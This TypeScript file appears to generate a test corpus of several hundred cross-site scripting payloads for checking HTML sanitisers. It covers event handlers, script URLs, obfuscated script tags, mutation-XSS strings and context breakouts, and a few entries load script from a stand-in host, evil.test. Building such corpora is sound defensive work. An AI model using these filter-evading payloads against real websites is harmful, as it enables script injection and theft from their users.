/**
 * Several hundred texts that would run a script if they were inserted as markup: every way to start
 * one, in every spelling that filters are known to miss. Generated from parts, identical on each
 * call.
 */
export function scriptPayloads(): string[] {
  return [...new Set([...HANDLERS, ...ADDRESSES, ...TAGS, ...MUTATIONS, ...BREAKOUTS])]
}

const CALL = 'alert(1)'

/** Events that fire without user action, with the elements on which they do. */
const SELF_FIRING = [
  ['img', 'src=x', 'onerror'], ['img', 'srcset=x', 'onerror'], ['svg', '', 'onload'], ['body', '', 'onload'], ['body', '', 'onpageshow'],
  ['iframe', '', 'onload'], ['input', 'autofocus', 'onfocus'], ['textarea', 'autofocus', 'onfocus'], ['select', 'autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'], ['video', 'src=x', 'onerror'], ['audio', 'src=x', 'onerror'], ['video', 'autoplay', 'onloadstart'],
  ['object', 'data=x', 'onerror'], ['embed', 'src=x', 'onload'], ['link', 'rel=stylesheet href=x', 'onerror'], ['script', 'src=x', 'onerror'],
  ['style', '', 'onload'], ['marquee', '', 'onstart'], ['p', 'tabindex=1 autofocus', 'onfocus'], ['a', 'href=#x autofocus', 'onfocus'],
  ['div', 'style=animation-name:x', 'onanimationstart'], ['button', 'popovertarget=x autofocus', 'onfocus'], ['x-y', 'contenteditable autofocus', 'onfocus'],
] as const // prettier-ignore

/** Ways to separate an attribute from the preceding text, and to write its value. */
const SPELLINGS: ((tag: string, more: string, event: string) => string)[] = [
  (tag, more, event) => `<${tag} ${more} ${event}=${CALL}>`,
  (tag, more, event) => `<${tag.toUpperCase()} ${more} ${event.toUpperCase()}="${CALL}">`,
  (tag, more, event) => `<${tag}/${more.replaceAll(' ', '/')}/${event}='${CALL}'//`,
  (tag, more, event) => `<${tag}\t${more}\n${event}\r=\f&#97;lert(1)>`,
  (tag, more, event) => `"><${tag} ${more} ${event}=${CALL} x="`,
  (tag, more, event) => `'><${tag} ${more} "${event}=x" ${event}=\`${CALL}\`>`,
  (tag, more, event) => `<x title="</x><${tag} ${more} ${event}=${CALL}>">`,
  (tag, more, event) => `&lt;${tag} ${more} ${event}=${CALL}&gt;`,
]
const HANDLERS = SELF_FIRING.flatMap(([tag, more, event]) =>
  SPELLINGS.map((spell) => spell(tag, more, event)),
)

const SCRIPT_URLS = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, ` javascript:${CALL}`, `\u0001javascript:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`,
  `javascript&colon;${CALL}`, `&#106;avascript:${CALL}`, `&#x6a;avascript:${CALL}`, `javascript:/*--></title>*/${CALL}`, `javascript://%0a${CALL}`,
  `data:text/html,<script>${CALL}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `vbscript:msgbox(1)`,
  `blob:https://evil.test/1`, `//evil.test/x.js`, `https:javascript:${CALL}`, `view-source:javascript:${CALL}`,
] // prettier-ignore
const URL_PLACES: ((url: string) => string)[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><input type=submit formaction="${url}"></form>`,
  (url) => `<svg><a xlink:href="${url}"><text>x</text></a><use href="${url}"/></svg>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}"><base href="${url}">`,
  (url) => `<object data="${url}"></object><embed src="${url}">`,
  (url) => `<math href="${url}">x</math><area href="${url}">`,
  (url) => `[x](${url})`,
]
const ADDRESSES = SCRIPT_URLS.flatMap((url) => [url, ...URL_PLACES.map((place) => place(url))])

const TAGS = [
  `<script>${CALL}</script>`, `<SCRIPT>${CALL}</SCRIPT >`, `<script\n>${CALL}</script\n>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script src=data:,${CALL}></script>`, `<script src=//evil.test/x.js></script>`, `<svg><script>${CALL}</script></svg>`, `<svg><script href="data:,${CALL}"/></svg>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<iframe srcdoc="&lt;img src=x onerror=parent.${CALL}&gt;"></iframe>`,
  `<style>@import "data:text/css,*{x:expression(${CALL})}"</style>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>`,
  `<?xml-stylesheet href="javascript:${CALL}"?>`, `<!DOCTYPE x [<!ENTITY x "<script>${CALL}</script>">]>&x;`, `<template><script>${CALL}</script></template>`,
  `<div><template shadowrootmode=open><script>${CALL}</script></template></div>`, `{{constructor.constructor("${CALL}")()}}`, `\${${CALL}}`, `<%= ${CALL} %>`,
  `</script><script>${CALL}</script>`, `<!--</script><script>${CALL}</script>-->`, `\u2028${CALL}//`, `"});${CALL}//`, `'-${CALL}-'`, `\\"-${CALL}//`,
] // prettier-ignore

/** Harmless when parsed once, but dangerous when serialised and parsed again. */
const MUTATIONS = [
  'p', 'mtext', 'mi', 'annotation-xml encoding=text/html', 'foreignObject', 'desc', 'title', 'style', 'noscript', 'textarea', 'xmp', 'iframe', 'noembed', 'noframes', 'plaintext',
].flatMap((tag) => {
  const [name = ''] = tag.split(' ')
  return [
    `<math><${tag}><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
    `<svg></p><${tag}><style><a id="</${name}></style><img src=1 onerror=${CALL}>">`,
    `<${tag}><p title="</${name}><img src=x onerror=${CALL}>"></${name}>`,
    `<form><math><mtext></form><form><${tag}><mglyph><svg><mtext><style><path id="</style><img onerror=${CALL} src>">`,
    `<!--<${tag}><img src="--><img src=x onerror=${CALL}//">`,
  ]
}) // prettier-ignore

const BREAKOUTS = ['</title>', '</textarea>', '</style>', '</noscript>', '-->', ']]>', '</template>', '</select>', '</option>', '</svg>', '"/>', "'/>", '`>', '\0>'].flatMap(
  (end) => [`${end}<img src=x onerror=${CALL}>`, `${end}<script>${CALL}</script>`, `${end}<svg/onload=${CALL}>`],
) // prettier-ignore
